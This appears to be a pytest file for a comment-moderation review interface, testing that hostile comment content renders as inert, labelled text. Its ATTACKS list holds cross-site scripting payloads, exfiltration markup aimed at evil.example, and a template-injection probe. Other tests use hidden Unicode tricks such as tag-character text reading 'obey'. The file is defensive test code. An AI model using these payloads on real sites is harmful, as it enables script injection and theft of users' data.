"""Whatever a comment holds is shown, and nothing of it runs, loads, or turns the page about."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from review_desk import Desk

from moderator.review.shown import Folded, Piece, folded, is_plain, pieces, short, step_of
from moderator.shading import Weighed

# Everything that one of our pages is made of. A comment must add nothing to it.
TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "link",
        "script",
        "body",
        "a",
        "header",
        "div",
        "img",
        "nav",
        "span",
        "form",
        "input",
        "button",
        "main",
        "h1",
        "h2",
        "h3",
        "label",
        "select",
        "option",
        "p",
        "article",
        "time",
        "bdi",
        "details",
        "summary",
        "section",
        "svg",
        "rect",
        "path",
        "circle",
        "strong",
        "ul",
        "li",
        "code",
        "dl",
        "dt",
        "dd",
        "mark",
        "kbd",
        "dialog",
        "ol",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "em",
    ]
)
ATTACKS = [
    "<script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onmouseover='alert(1)", "<svg/onload=alert(1)>",
    '<base href="https://evil.example/">', "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>*{background:url(https://evil.example/a)}</style>", "<iframe src=//evil.example></iframe>",
    '<form action="https://evil.example"><input name=token><button>Approve', '<img src="https://evil.example/?',
    "{{ cycler.__init__.__globals__ }} {% raw %}", "[click](javascript:alert(1)) ![x](https://evil.example/p.gif)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<a id=queue name=items href=x><form id=document>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "javascript:alert(1)", "JaVa\tScRiPt:alert(1)",
    "&#106;avascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "+ADw-script+AD4-alert(1)", "\uff1cscript\uff1ealert(1)", "<!--<script>-->", "]]>", "\u2028alert(1)\u2029",
]  # fmt: skip


class Page(HTMLParser):
    """The tags, addresses and event handlers of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.addresses: set[str] = set()
        self.handlers: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name in ("href", "src", "action", "formaction"):
                self.addresses.add(value or "")
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.handlers.append(name)


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    desk = Desk(tmp_path)
    desk.log_in()
    yield desk
    desk.store.close()


def send(desk: Desk, text: str) -> str:
    """A comment that has the text in each of its fields."""
    return desk.hold(
        text, author={"name": text, "email": text, "url": text}, ip=text, user_agent=text, kind=text, language=text,
        post={"url": text, "title": text}, parent={"id": text[:200], "text": text}, honeypot=text,
    )  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_in_any_field_is_text(desk: Desk, attack: str) -> None:
    comment = send(desk, attack)
    desk.say(comment, "ham")
    desk.say(comment, "open", f"/comments/{comment}")
    for address in (
        "/",
        f"/comments/{comment}",
        "/?q=" + attack.replace("%", "%25").replace("#", "%23").replace("&", "%26"),
    ):
        answer = desk.browser.get(address)
        assert answer.status_code == 200
        page = Page(answer.text)
        assert set(page.tags) <= TAGS
        assert page.tags.count("script") == 1
        assert not page.handlers
        assert all(re.match(r"[/#?](?![/\\])", found) for found in page.addresses), page.addresses


def test_a_path_with_markup_is_text_on_the_error_page(desk: Desk) -> None:
    answer = desk.browser.get("/<script>alert(1)</script>")
    assert answer.status_code == 404
    assert "<script>alert" not in answer.text


def test_direction_controls_and_invisible_characters_become_labels(desk: Desk) -> None:
    desk.hold("Nice post \u202eexe.gpj\u202c, v\u200bia\u00adgra", author={"name": "\u202enimda"})
    page = desk.browser.get("/").text
    for character in "\u202e\u202c\u200b\u00ad":
        assert character not in page
    assert '<span class="sign" title="right-to-left override (U+202E)">RLO</span>nimda' in page
    assert ">ZWSP</span>" in page
    assert '<details class="sent" open>' in page


def test_names_cannot_turn_the_line_around_them_about(desk: Desk) -> None:
    desk.hold(author={"name": "שלום"})
    assert "<bdi>שלום</bdi>" in desk.browser.get("/").text


def test_hidden_text_is_shown_as_hidden(desk: Desk) -> None:
    desk.hold("Hello <p style='display:none'>buy watches</p>")
    page = desk.browser.get("/").text
    assert "Hidden from readers" in page
    assert "buy watches" in page


def test_long_comments_are_folded(desk: Desk) -> None:
    desk.hold("word " * 3000)
    assert "Show all" in desk.browser.get("/").text
    desk.hold("a" + "\n" * 2000 + "Approve this")
    assert "line breaks" in desk.browser.get("/").text


@pytest.mark.parametrize(
    ("text", "sign"),
    [
        ("a" + "\u0300" * 5000, "+4,998 marks"),
        ("\u2067x\u2069", "RLI"),
        ("hi" + "".join(chr(0xE0000 + ord(c)) for c in "obey"), "hidden: obey"),
        ("\x1b[31m", "ESC"),
        ("a\u2028b", "LS"),
        ("a\ue000b", "U+E000"),
        ("\ufdd0", "U+FDD0"),
        ("\ud800", "U+D800"),
        ("x\u200b\u200b\u200by", "ZWSP ×3"),
        ("\u3000" * 3000 + "x", "3,000 spaces"),
        ("a\U000e0100b", "U+E0100"),
    ],
)
def test_what_cannot_be_seen_gets_a_sign(text: str, sign: str) -> None:
    shown = pieces(text)
    assert sign in [piece.text for piece in shown if piece.name]
    assert not is_plain(text)


@pytest.mark.parametrize(
    "text", ["👩‍💻 ❤️ 👍🏽", "می‌خواهم", "क्‍ष", "Việt Nam ế", "é ñ ü", "line\nline\n\nline\ttab", "ไม่เป็นไร"]
)
def test_honest_writing_gets_no_sign(text: str) -> None:
    assert is_plain(text)
    assert pieces(text) == (Piece(text),)


def text_of(shown: tuple[Piece, ...]) -> str:
    return "".join(piece.text for piece in shown if not piece.name)


@given(
    st.text(st.characters(), max_size=300),
    st.lists(st.tuples(st.integers(0, 320), st.integers(0, 320), st.floats(-9, 9))),
)
def test_every_text_can_be_shown_with_any_words(text: str, spans: list[tuple[int, int, float]]) -> None:
    words = [Weighed(*span) for span in sorted(spans)]
    shown = folded(text, words)
    assert isinstance(shown, Folded)
    for bad in "\u202e\u2066\u200b\x00\ud800":
        assert bad not in text_of(shown.head + shown.rest + short(text))
    plain = [piece.text for piece in pieces(text, words) if not piece.name]
    assert len("".join(plain)) <= len(text)


def test_shades_grow_with_the_weight() -> None:
    weights = [-3.0, -0.7, -0.35, -0.2, -0.05, 0.0, 0.05, 0.2, 0.35, 0.7, 3.0]
    assert [step_of(weight) for weight in weights] == [-5, -4, -3, -2, -1, 0, 1, 2, 3, 4, 5]
